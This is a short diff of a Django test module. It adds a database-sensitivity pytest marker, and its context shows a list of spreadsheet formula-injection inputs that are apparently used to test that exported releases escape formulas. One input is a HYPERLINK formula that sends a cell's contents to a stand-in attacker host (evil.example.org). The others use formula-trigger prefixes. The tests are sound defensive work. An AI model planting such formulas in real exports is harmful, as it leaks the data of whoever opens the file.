@@ -13,7 +13,8 @@ from projects.services import create_project
 from releases_app.services import make_release
 from tests.annotation.factories import make_family, make_instance, make_reference
 
-pytestmark = pytest.mark.django_db
+# Database behaviour (a release's row order and JSON fields): also run on PostgreSQL.
+pytestmark = [pytest.mark.django_db, pytest.mark.database_sensitive]
 
 FORMULAS = ['=HYPERLINK("https://evil.example.org/?d="&A1,"Click")', "+1+2", "-3 cats sit on the mat.",
             "@SUM(1,2)", "\t=1+1", "\r=1+1", "'=already quoted once"]
